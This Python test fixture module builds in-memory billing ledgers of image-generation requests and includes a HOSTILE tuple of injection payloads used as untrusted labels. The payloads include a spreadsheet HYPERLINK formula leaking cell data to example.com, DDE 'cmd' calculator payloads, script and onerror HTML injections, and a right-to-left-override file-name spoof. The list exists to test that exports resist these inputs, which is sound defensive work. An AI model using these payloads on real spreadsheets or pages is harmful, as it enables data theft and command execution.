"""Ledgers full of everything that happens, and of labels that nobody should trust."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

from routing.core.entries import Adjustment, EntryKind
from routing.core.picture import Size
from routing.ledger.memory import open_memory
from tests.ledger.purchases import cache_hit, record, release, reservation, settle

if TYPE_CHECKING:
    from collections.abc import Iterable

    from routing.ledger.base import Store

NOVEMBER_21 = datetime(2026, 11, 21, 12, tzinfo=UTC)
CENT = 10_000_000

HOSTILE = (
    '=HYPERLINK("http://example.com/?leak="&A1;"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "fine;=1+1",
    "two\n=lines",
    "  =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "<script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    'a "quoted", text',
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
    "حملة الربيع",
    "\x1b[31mred\x1b[0m",
    "spring",
    "",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Happened:
    """One request as it went: its end, and how long after its beginning that was."""

    request_id: str
    at: datetime
    end: str = "settled"
    nusd: int = 5 * CENT
    images: int = 1
    ended_after: timedelta = timedelta(seconds=20)
    corrected_after: timedelta = timedelta()
    corrected_nusd: int = 0
    importance: str = "draft"
    asset: str | None = None
    parent: str | None = None
    tags: tuple[tuple[str, str], ...] = ()
    deployment: str = "gpt-image-2"
    size: str = "1024x1024"


def write(store: Store, happened: Iterable[Happened]) -> None:
    """Write requests in the order given, each with its end and its correction."""
    for each in happened:
        _write(store, each)


def ledger(*happened: Happened) -> Store:
    """A ledger in memory in which this happened."""
    store = open_memory()
    write(store, happened)
    return store


def _write(store: Store, each: Happened) -> None:
    labels: dict[str, Any] = {
        "at": each.at,
        "importance": each.importance,
        "asset": each.asset,
        "parent": each.parent,
        "tags": dict(each.tags),
        "n": max(1, each.images),
        "size": Size.parse(each.size),
    }
    made, attempt = record(each.request_id, **labels), f"{each.request_id}/1"
    if each.end == "cached":
        hit = cache_hit(
            each.request_id, each.nusd, at=each.at, images=each.images, deployment=each.deployment, size=each.size
        )
        store.record_cached(made, hit)
        return
    reserved = reservation(
        each.nusd + CENT, request_id=each.request_id, at=each.at, deployment=each.deployment, size=each.size,
        images=max(1, each.images),
    )  # fmt: skip
    store.reserve(made, [reserved])
    at = each.at + each.ended_after
    if each.end == "held":
        return
    if each.end == "released":
        store.resolve(release(attempt, at))
        return
    if each.end == "expired":
        store.resolve(
            settle(attempt, each.nusd + CENT, kind=EntryKind.EXPIRE, at=at, unconfirmed=True, images=0, basis=None)
        )
    else:
        unconfirmed = each.end == "unconfirmed"
        images = 0 if unconfirmed else each.images
        store.resolve(settle(attempt, each.nusd, at=at, unconfirmed=unconfirmed, images=images))
    if each.corrected_after:
        correction = Adjustment(
            reservation_id=attempt, at=at + each.corrected_after, cost_nusd=each.corrected_nusd, reason="=the bill"
        )
        store.adjust(correction)


def a_story(end: datetime = NOVEMBER_21) -> tuple[Happened, ...]:
    """Two weeks of a small team: a poster from drafts to final, a campaign, failures and corrections."""
    day, hour = timedelta(days=1), timedelta(hours=1)
    start = end - 14 * day
    spring, autumn = (("campaign", "spring"),), (("campaign", "autumn"), ("kind", "poster"))
    drafts = [
        Happened(
            request_id=f"poster-7/draft-{number}", at=start + number * day / 2, nusd=3_357_142 * number,
            asset="poster-7", tags=spring, deployment="nano-banana",
        )
        for number in range(1, 15)
    ]  # fmt: skip
    return (
        *drafts,
        Happened(request_id="poster-7/review-1", at=start + 8 * day, nusd=5 * CENT, importance="review",
                 asset="poster-7", parent="poster-7/draft-3", tags=spring),
        Happened(request_id="poster-7/final-1", at=start + 9 * day, nusd=21 * CENT, importance="final",
                 asset="poster-7", parent="poster-7/review-1", tags=spring),
        Happened(request_id="tin/draft-1", at=start + 3 * day, asset="tin", tags=autumn),
        Happened(request_id="tin/draft-2", at=start + 3 * day + hour, asset="tin", tags=autumn, end="cached"),
        Happened(request_id="lost", at=start + 4 * day, nusd=21 * CENT, importance="final", tags=autumn,
                 end="unconfirmed"),
        Happened(request_id="dead", at=start + 5 * day, nusd=4 * CENT, end="expired", tags=spring),
        Happened(request_id="refused", at=start + 5 * day, end="released"),
        Happened(request_id="wrong", at=start + 6 * day, nusd=6 * CENT, corrected_after=day, corrected_nusd=5 * CENT),
        Happened(request_id="under-way", at=end - hour / 60, nusd=20 * CENT, end="held", importance="final"),
    )  # fmt: skip
